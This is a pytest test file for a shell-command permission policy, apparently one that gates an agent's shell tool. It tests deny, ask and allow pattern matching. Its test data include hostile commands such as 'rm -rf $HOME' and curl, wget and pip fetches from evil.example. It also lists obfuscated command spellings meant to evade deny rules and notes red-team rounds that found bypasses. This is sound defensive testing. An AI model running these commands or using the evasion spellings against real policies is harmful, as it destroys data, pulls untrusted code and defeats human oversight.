"""Command patterns: exact for an allow, conservative for a deny or ask (options as a set),
and the conservative reading of a line that a deny looks in."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from toolpolicy import load
from toolpolicy.compile.command_patterns import (
    CommandPattern,
    CommandPatternError,
    compile_command_pattern,
    compile_occurrence_pattern,
)
from toolpolicy.compile.command_scan import scan_runs
from toolpolicy.compile.commands import split_command_line


def denies(pattern: str, line: str) -> bool:
    compiled = compile_command_pattern(pattern)
    return any(compiled.occurs_in(run) for run in split_command_line(line).runs)


def allows(pattern: str, line: str) -> bool:
    compiled = compile_command_pattern(pattern)
    plain = split_command_line(line).plain
    return plain is not None and all(compiled.covers(c) for c in plain.commands)


# --- deny and ask: options are a set --------------------------------------------------------


@pytest.mark.parametrize("line", ["rm -rf x", "rm -r -f x", "rm -fr x", "rm -f -r x", "rm -vfr x",
                                  "rm -r x -f", "rm x -rf"])  # fmt: skip
def test_a_short_option_cluster_hits_its_letters_in_any_order_and_grouping(line: str) -> None:
    assert denies("rm -rf", line)


@pytest.mark.parametrize("line", ["rm -R -f x", "rm -f x", "rm -r x", "rm --force x"])
def test_letters_are_case_sensitive_and_all_needed(line: str) -> None:
    assert not denies("rm -rf", line)


def test_alternatives_let_one_rule_name_long_and_short_spellings() -> None:
    rule = "rm -r|--recursive -f|--force"
    for line in ("rm -rf x", "rm --recursive --force x", "rm -r --force x", "rm --force -r x"):
        assert denies(rule, line), line
    assert not denies(rule, "rm --recursive x")


def test_a_long_option_matches_as_written_with_a_value_or_abbreviated() -> None:
    assert denies("git push --force", "git push --force origin")
    assert denies("git push --force", "git push --force=yes")
    assert denies("git push --force", "git push --forc")
    assert not denies("git push --force", "git push --force-with-lease")
    assert not denies("git push --force", "git push -- origin")


def test_plain_words_follow_in_order_with_anything_between() -> None:
    assert denies("git push", "git -C . --no-pager push origin")
    assert not denies("git push", "git status; echo push")
    assert not denies("git push", "push git")


# --- deny and ask: the program anywhere, by basename, in any spelling -----------------------


@pytest.mark.parametrize(
    "line",
    ["ionice git push", "taskset 1 git push", "flock /tmp/l git push",
     "strace -f -o /dev/null git push", "script -qc 'git push' /dev/null",
     "../../../usr/bin/git push", "mapfile -C 'git push #' -c 1 a <<< z", "\\git push",
     "'git' \"push\"", "g'i't pu\\sh", "$'\\x67\\151t' push", "echo $(git push)",
     "x=`git push`", "${x:-git} push", "sh -c \"cd /; git push\"", "git \\\npush",
     "watch -n1 'git push'", "ssh host 'git push origin'", "find . -exec git push \\;",
     "xargs -I{} git push", "env -S'git push'", "a=(git push)", "git${IFS}push"],
)  # fmt: skip
def test_a_deny_finds_its_program_wherever_the_line_names_it(line: str) -> None:
    assert denies("git push", line)


def test_a_false_hit_is_the_price_of_a_deny_that_never_misses() -> None:
    assert denies("git push", 'echo "git push"')
    assert denies("git push", "git commit -m 'push it'")


def test_runs_break_at_list_operators_and_drop_quotes_two_ways() -> None:
    assert scan_runs("a 'b c'|d;e&&f") == (("a", "b", "c"), ("d",), ("e",), ("f",))
    assert scan_runs("'x'git push") == (("xgit", "push"), ("x", "git", "push"))


# --- allow: exact -----------------------------------------------------------------------------


def test_an_allow_matches_the_first_words_exactly() -> None:
    assert allows("git status", "git status --short")
    assert allows("git status|log", "git log -1 && git status")
    assert not allows("git status", "git -C . status")
    assert not allows("rm -rf", "rm -fr x")
    assert not allows("git status", "/usr/bin/git status")


def test_an_allow_never_matches_a_word_bash_may_change() -> None:
    assert allows("ls", "ls ./*.py")
    assert allows("npm run *", "npm run test")
    assert not allows("npm run *", "npm run *")
    assert not allows("cat ~/x", "cat ~/x")


def test_an_allow_needs_a_plain_line() -> None:
    assert not allows("echo", "echo $HOME")
    assert not allows("git status", "A=1 git status")


# --- compiling --------------------------------------------------------------------------------


def test_a_pattern_keeps_its_words_and_alternatives() -> None:
    assert compile_command_pattern("  rm   -rf ") == CommandPattern(
        "  rm   -rf ", ("rm", "-rf"), (("rm",), ("-rf",)), "rm"
    )
    assert compile_command_pattern("/usr/bin/git push").key == "git"
    assert compile_command_pattern("git status|log").alternatives == (("git",), ("status", "log"))
    assert compile_command_pattern("git status|log -s|-b").spellings() == (
        ("git", "status", "-s"),
        ("git", "status", "-b"),
        ("git", "log", "-s"),
        ("git", "log", "-b"),
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "it has no words"),
        ("git 'push'", "' not allowed"),
        ("a; b", "; not allowed"),
        ("git pu*", "'*' must be a whole word"),
        ("git|hub push", "the program cannot list alternatives"),
        ("git push||pull", "empty alternative"),
        ("rm -r|x", "mixes options and words"),
        ("a\tb", "control characters"),
    ],
)
def test_an_invalid_pattern_is_refused_with_the_reason(text: str, message: str) -> None:
    with pytest.raises(CommandPatternError, match=message):
        compile_command_pattern(text)


@given(st.lists(st.sampled_from("rfvRix"), min_size=1, max_size=5, unique=True), st.randoms())
def test_any_grouping_of_the_rules_letters_hits(letters: list[str], random: st.Random) -> None:
    line_letters = list(letters)
    random.shuffle(line_letters)
    groups: list[str] = []
    while line_letters:
        take = random.randint(1, len(line_letters))
        groups.append("-" + "".join(line_letters[:take]))
        line_letters = line_letters[take:]
    assert denies("rm -" + "".join(letters), "rm " + " ".join(groups) + " x")


# --- deny and ask: a pattern holds only words a line's runs can hold -----------------------


def occurs(pattern: str, line: str) -> bool:
    compiled = compile_occurrence_pattern(pattern)
    return any(compiled.occurs_in(run) for run in split_command_line(line).runs)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("* https://evil.example", ("*", "https", "//evil.example")),
        ("rm -rf $HOME", ("rm", "-rf", "HOME")),
        ("rm -rf ${HOME}/x", ("rm", "-rf", "HOME", "/x")),
        ("x -a=b", ("x", "-a", "b")),
        ("FOO=1 make", ("FOO", "1", "make")),
        ("git push --force=yes", ("git", "push", "--force=yes")),  # read by its name
        ("git status|log", ("git", "status|log")),
        ("cat $HOME|~", ("cat", "HOME|~")),  # each alternative stays one word
    ],
)
def test_a_deny_pattern_is_broken_where_a_lines_words_break(
    text: str, words: tuple[str, ...]
) -> None:
    compiled = compile_occurrence_pattern(text)
    assert compiled.words == words
    assert compiled.text == text  # shown as written
    assert compiled.key == words[0].rsplit("/", 1)[-1] or words[0] == "*"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("x a=b|c", "the alternatives of 'a=b|c' break into other words"),
        ("x $|c", "the alternatives of '$|c' break into other words"),
        ("$ x", "its program '$' is no word a line can hold"),
    ],
)
def test_a_deny_pattern_that_cannot_be_broken_is_refused(text: str, message: str) -> None:
    with pytest.raises(CommandPatternError, match=re.escape(message)):
        compile_occurrence_pattern(text)


def test_a_deny_on_a_url_denies_the_line_that_names_it(tmp_path: Path) -> None:
    """Red team, round 32: ``* https://evil.example`` denied nothing, the runs of a line
    never hold a word with ``:``."""
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "apiVersion: toolpolicy/v1\nkind: Policy\nname: p\nextends: P03\nrules:\n"
        "  - name: no-evil\n    behavior: deny\n    reason: refused\n    match:\n"
        '      tools: [shell]\n      commands: ["* https://evil.example", "rm -rf $HOME"]\n',
        encoding="utf-8",
    )
    checked = load(str(policy), workspace=tmp_path)
    for line in ("curl https://evil.example", "wget -q 'https://evil.example'", "rm -rf $HOME"):
        decided = checked.check("shell", {"command": line})
        assert (decided.behavior.label, decided.source) == ("deny", "no-evil"), line
    assert checked.check("shell", {"command": "curl https://good.example"}).source != "no-evil"


_PATTERN_WORD = st.text(alphabet="ab-./=:,${}", min_size=1, max_size=6)


@given(st.sampled_from(("x", "*")), st.lists(_PATTERN_WORD, min_size=1, max_size=3))
@example("*", ["https://evil.example"])
@example("x", ["-a=b"])
@example("x", ["--="])  # no option name: the word "--" (found by this property, round 33)
@example("x", ["-:::="])  # a Go flag's name the runs break: no flag (the same, round 33)
@example("x", ["./-a"])  # the path ./-a read as the option -a (the same, round 37)
def test_a_deny_pattern_hits_the_line_that_spells_it(program: str, rest: list[str]) -> None:
    """The kind: a deny or ask pattern that misses the very line written as its words. Every
    pattern that compiles hits the plain line of its own words (after a program for ``*``)."""
    text = " ".join([program, *rest])
    try:
        compile_occurrence_pattern(text)
    except CommandPatternError:
        return  # refused with a reason: never a rule that silently denies nothing
    line = " ".join(["prog" if program == "*" else program, *rest])
    assert occurs(text, line), (text, line)


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("curl -X DELETE", "curl -XDELETE https://api.example/x"),
        ("ssh -o StrictHostKeyChecking=no", "ssh -oStrictHostKeyChecking=no host"),
        ("pip install -i https://evil.example", "pip install -ihttps://evil.example x"),
    ],
)
def test_a_deny_hits_a_value_glued_to_its_short_option(
    tmp_path: Path, pattern: str, line: str
) -> None:
    """Red team, round 32, second look: with an allow of the program beside it, the glued
    spelling of the deny's option and value was allowed; where the value starts is the
    program's to say, so every tail of a short option's word is a word to a deny."""
    program = pattern.split()[0]
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "apiVersion: toolpolicy/v1\nkind: Policy\nname: p\nextends: P03\nrules:\n"
        "  - name: no-x\n    behavior: deny\n    reason: refused\n    match:\n"
        f'      tools: [shell]\n      commands: ["{pattern}"]\n'
        "  - name: any\n    behavior: allow\n    reason: ok\n    match:\n"
        f'      tools: [shell]\n      commands: ["{program} *"]\n',
        encoding="utf-8",
    )
    checked = load(str(policy), workspace=tmp_path)
    decided = checked.check("shell", {"command": line})
    assert (decided.behavior.label, decided.source) == ("deny", "no-x")
    assert occurs(pattern, line)


_ANY_PATTERN = st.text(alphabet="ab -|*;'\"\\()<>&`$=/", min_size=1, max_size=12)


@given(_ANY_PATTERN)
@example("git  push")
@example("a|b")
@example("a b|c")
@example("a *")
@example("a b*")
@example("a b|-c")
def test_a_pattern_of_plain_words_compiles_to_its_words_and_the_others_as_they_are_checked(
    text: str,
) -> None:
    """The compiler answers a pattern of plain words (no ``*``, ``|`` or shell syntax) at
    once: its words, each its only choice; every other pattern goes through the per-word
    checks. Both answers are what the documented reading says: words split at spaces, ``|``
    the choices of a word (never on the program), ``*`` only a whole word, shell syntax
    refused. And a deny's reading of a pattern it changes nothing in is the pattern itself."""
    words = tuple(w for w in text.split(" ") if w)
    refused = (
        not words
        or any(c in text for c in "'\"\\`;&<>()")
        or "|" in words[0]
        or any("" in w.split("|") for w in words if "|" in w)
        or any(a != "*" and "*" in a for w in words if w != "*" for a in w.split("|"))
        or any(len({_option(a) for a in w.split("|")}) > 1 for w in words)
    )
    try:
        compiled = compile_command_pattern(text)
    except CommandPatternError:
        assert refused, text
        return
    assert not refused, text
    assert compiled.words == words
    assert compiled.alternatives == tuple(tuple(w.split("|")) for w in words)
    if not any(c in text for c in "${}=,:/") and " -" not in text:
        assert compile_occurrence_pattern(text) == compiled


def _option(word: str) -> bool:
    return len(word) > 1 and word[0] == "-" and word != "--"


@pytest.mark.parametrize("line", ["x ./-a", "x .//-a", "x ././-a", "x ./-a/", "x y ./-a"])
def test_a_deny_of_a_file_named_like_an_option_hits_each_spelling_of_the_path(line: str) -> None:
    """The kind: a deny's path shortened into an option (``./-a`` spelled ``-a``), which the
    line's word, a path, then never held."""
    assert occurs("x ./-a", line)
    assert not occurs("x ./-a", "x -a")  # the option -a names no file
